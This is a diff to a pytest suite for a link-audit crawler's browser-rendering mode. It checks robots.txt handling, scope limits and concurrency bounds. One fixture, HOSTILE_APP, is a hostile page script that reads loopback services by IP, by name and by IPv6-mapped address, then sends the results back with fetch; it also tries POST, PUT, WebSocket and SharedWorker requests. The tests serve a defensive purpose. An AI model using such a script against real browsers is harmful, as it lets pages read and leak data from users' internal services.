@@ -6,9 +6,14 @@ User-Agent; the page's document is never asked for by the browser."""
 from __future__ import annotations
 
 import json
+import threading
+import time
+
+import pytest
 
 from tests.conftest import validate
 from tests.helpers.command import run
+from tests.rawserver import RawServer, _read_request
 from tests.server import Route, TestServer
 
 DELAY = 0.5
@@ -50,17 +55,12 @@ def test_renders_wait_for_the_delay_and_ask_robots_of_every_host(tmp_path):
             "/app.js": Route(body=fetch_and_link(cdn.url), content_type="text/javascript"),
         }
         with TestServer(site_routes) as site:
+            # the other host is on a loopback address too: --near makes it the
+            # site's own, or the browser would not reach it (reach.py)
             out = run(
-                tmp_path,
-                f"{site.url}/",
-                "--render",
-                "auto",
-                "--delay",
-                str(DELAY),
-                "--report",
-                "r.json",
-                timeout=120,
-            )
+                tmp_path, f"{site.url}/", "--near", f"{site.url}/", "--near", f"{cdn.url}/",
+                "--render", "auto", "--delay", str(DELAY), "--report", "r.json", timeout=120,
+            )  # fmt: skip
             log = list(site.log)
     assert out.returncode == 0, out.stdout + out.stderr[-2000:]
     report = json.loads((tmp_path / "r.json").read_text())
@@ -114,3 +114,189 @@ def test_a_websocket_is_asked_of_robots_txt_too(tmp_path):
     assert not [h for h in log if h.path.startswith("/private/")]
     (render,) = [u["render"] for u in report["urls"] if u.get("render")]
     assert render["refused"] >= 1 and render["requests"] >= 2  # app.js and /live
+
+
+# A hostile page's scripts: what the audit would never request ------------------
+HOSTILE_APP = """
+var root = document.getElementById("root");
+function tell(what) {  // what the page managed to read, sent on (to the site: logged)
+  fetch("/app/told?" + encodeURIComponent(what)).catch(function () {});
+}
+function steal(url) {
+  fetch(url).then(function (r) { return r.text(); }).then(tell, function () {});
+}
+steal("http://127.0.0.1:SECRET/secret");      // a local service nobody links to
+steal("http://localhost:SECRET/by-name");      // the same, by a name that resolves there
+steal("http://[::ffff:127.0.0.1]:SECRET/mapped");
+fetch("/app/post", {method: "POST", body: "stolen"}).catch(function () {});
+fetch("/app/put", {method: "PUT"}).catch(function () {});
+fetch("/app/excluded.json").catch(function () {});  // --exclude
+fetch("/outside/far.json").catch(function () {});   // outside the site: --skip-far
+try { new WebSocket("ws://127.0.0.1:SECRET/live"); } catch (e) {}
+try { new SharedWorker("/app/worker.js"); } catch (e) {}  // out of page.route's sight
+fetch("/app/ok.json").then(function () {
+  root.innerHTML = '<a href="/app/next">next</a>';
+});
+"""
+
+
+@pytest.mark.parametrize("scope", ["--skip-far", "none"])
+def test_a_hostile_page_reaches_only_what_the_audit_would(tmp_path, scope):
+    """The browser's requests follow the audit's scope and rules: only GET
+    and HEAD, no body, --exclude and --skip-far applied, no loopback address
+    that is not the site's (by its resolved address, not its name: the site
+    itself is on 127.0.0.1, another port of it is another program),
+    WebSockets included; the service nobody links to never sees a byte, its
+    robots.txt included; the refusals are counted, the local ones said."""
+    cors = {"Access-Control-Allow-Origin": "*"}
+    secret_routes = {
+        path: Route(body="TOP SECRET", content_type="text/plain", headers=cors)
+        for path in ("/secret", "/by-name", "/mapped", "/live")
+    }
+    secret_routes["/robots.txt"] = Route(
+        body="User-agent: *\nAllow: /\n", content_type="text/plain"
+    )
+    flags = ["--skip-far", "--exclude", "excluded"] if scope == "--skip-far" else []
+    with TestServer(secret_routes) as secret:
+        script = HOSTILE_APP.replace("SECRET", str(secret.port))
+        json_route = Route(body="{}", content_type="application/json")
+        site_routes = {
+            "/app/": shell("/app/app.js"),
+            "/app/app.js": Route(body=script, content_type="text/javascript"),
+            "/app/worker.js": Route(
+                body=f"fetch('http://127.0.0.1:{secret.port}/secret');",
+                content_type="text/javascript",
+            ),
+            "/app/ok.json": json_route,
+            "/app/excluded.json": json_route,
+            "/outside/far.json": json_route,
+            "/app/post": json_route,
+            "/app/put": json_route,
+        }
+        with TestServer(site_routes) as site:
+            out = run(
+                tmp_path, f"{site.url}/app/", "--render", "auto", "--delay", "0",
+                *flags, "--report", "r.json",
+            )  # fmt: skip
+            log = [(h.method, h.path) for h in site.log if by_browser(h)]
+        reached = list(secret.arrivals)
+    assert out.returncode == 1, out.stdout + out.stderr[-2000:]  # /app/next: a 404, rendered
+    report = json.loads((tmp_path / "r.json").read_text())
+    validate(report)
+    assert reached == []  # not one request, not even its robots.txt
+    assert ("GET", "/app/ok.json") in log  # the page's own data: asked
+    assert [m for m, _ in log if m not in ("GET", "HEAD")] == [], log
+    paths = {p for _, p in log}
+    assert not paths & {"/app/post", "/app/put"}
+    assert not [p for p in paths if p.startswith("/app/told")], log  # nothing read to tell
+    (entry,) = [u for u in report["urls"] if u.get("render")]
+    if scope == "--skip-far":  # outside /app/ is far: refused as the audit refuses it
+        assert not paths & {"/app/excluded.json", "/outside/far.json"}
+        assert entry["render"]["refused"] == 8, entry["render"]
+    else:  # the same host, the same address: the site's own; the service's port is not
+        assert {"/app/excluded.json", "/outside/far.json"} <= paths
+        assert entry["render"]["refused"] == 6, entry["render"]
+        for path in ("/secret", "/by-name", "/mapped"):
+            assert f":{secret.port}{path}: a loopback address, not the site's" in out.stderr
+
+
+# A page that names many hosts: robots.txt asked within the audit's bounds ----
+MANY_HOSTS = 40  # 127.0.0.2 ... each a host of its own, one server behind them all
+ASKED_AT_ONCE = 3  # CONCURRENT_REQUESTS of the audit
+HOSTS_PER_RENDER = 12
+
+
+def test_a_page_naming_many_hosts_asks_robots_within_the_audits_bounds(tmp_path):
+    """Each host's robots.txt is held 0.3 s: at most CONCURRENT_REQUESTS are
+    asked at once for the browser (it opened one connection per host at
+    once, 3,001 for a page that named 3,001), and one render asks at most
+    LINKAUDIT_RENDER_HOSTS hosts; those past it are refused, not asked."""
+    flight = InFlight()
+    hosts = [f"127.0.0.{n}" for n in range(2, 2 + MANY_HOSTS)]
+    robots = Route(body="User-agent: *\nAllow: /\n", content_type="text/plain", gate=flight.gate)
+    with TestServer({"/robots.txt": robots}, host="0.0.0.0") as srv:  # every 127.0.0.X
+        port = srv.port
+        script = "".join(f"fetch('http://{h}:{port}/data.json').catch(() => {{}});" for h in hosts)
+        srv.add("/", shell("/app.js"))
+        srv.add("/app.js", Route(body=script, content_type="text/javascript"))
+        srv.add("/data.json", Route(body="{}", content_type="application/json"))
+        site = f"http://127.0.0.1:{port}/"
+        near = ",".join([site] + [f"http://{h}:{port}/" for h in hosts])  # the site's own
+        out = run(
+            tmp_path, site, "--render", "auto", "--delay", "0", "--report", "r.json",
+            "-s", f"LINKAUDIT_NEAR={near}", "-s", f"CONCURRENT_REQUESTS={ASKED_AT_ONCE}",
+            "-s", f"LINKAUDIT_RENDER_HOSTS={HOSTS_PER_RENDER}",
+            "-s", "LINKAUDIT_RENDER_SETTLE=15", "-s", "LINKAUDIT_RENDER_TIMEOUT=30",
+        )  # fmt: skip
+        asked = [h.headers.get("Host", "") for h in srv.log if h.path == "/robots.txt"]
+    assert out.returncode == 0, out.stdout + out.stderr[-2000:]
+    report = json.loads((tmp_path / "r.json").read_text())
+    validate(report)
+    assert flight.most <= ASKED_AT_ONCE, flight.most
+    # the site's own robots.txt (the crawl's) and HOSTS_PER_RENDER - 1 others
+    assert len(asked) == HOSTS_PER_RENDER, asked
+    (render,) = [u["render"] for u in report["urls"] if u.get("render")]
+    assert render["refused"] == MANY_HOSTS - (HOSTS_PER_RENDER - 1), render
+
+
+class InFlight:
+    """A route's gate that counts the requests it holds at once."""
+
+    def __init__(self):
+        self.now = self.most = 0
+        self.lock = threading.Lock()
+
+    def gate(self) -> None:
+        with self.lock:
+            self.now += 1
+            self.most = max(self.most, self.now)
+        time.sleep(0.3)
+        with self.lock:
+            self.now -= 1
+
+
+class NoRobotsAnswer(RawServer):
+    """Hangs up on ``/robots.txt`` without a word; answers anything else
+    (data a page may read, from any origin)."""
+
+    def __init__(self):
+        super().__init__(lambda conn, method: None, robots=False)
+
+    def _handle(self, conn) -> None:
+        with conn:
+            try:
+                request = _read_request(conn)
+                if request is None:
+                    return
+                self.requests.append(request)
+                if request[1] != "/robots.txt":
+                    conn.sendall(
+                        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+                        b"Access-Control-Allow-Origin: *\r\nContent-Length: 2\r\n"
+                        b"Connection: close\r\n\r\n{}"
+                    )
+            except OSError:
+                pass
+
+
+def test_a_robots_txt_without_an_answer_allows_the_browser_nothing(tmp_path):
+    """A robots.txt that could not be fetched (the server hung up; out of
+    file descriptors is the same to the browser) is no answer: the browser
+    asks nothing of that host (the audit's own checks still report it)."""
+    with NoRobotsAnswer() as data:
+        script = f"fetch('{data.url}/data.json').catch(() => {{}});"
+        routes = {
+            "/": shell("/app.js"),
+            "/app.js": Route(body=script, content_type="text/javascript"),
+        }
+        with TestServer(routes) as site:
+            out = run(
+                tmp_path, f"{site.url}/", "--near", f"{site.url}/", "--near", f"{data.url}/",
+                "--render", "auto", "--delay", "0", "--report", "r.json",
+            )  # fmt: skip
+        asked = list(data.requests)
+    assert out.returncode == 0, out.stdout + out.stderr[-2000:]
+    assert asked and {path for _, path in asked} == {"/robots.txt"}, asked
+    report = json.loads((tmp_path / "r.json").read_text())
+    (render,) = [u["render"] for u in report["urls"] if u.get("render")]
+    assert render["refused"] == 1, render
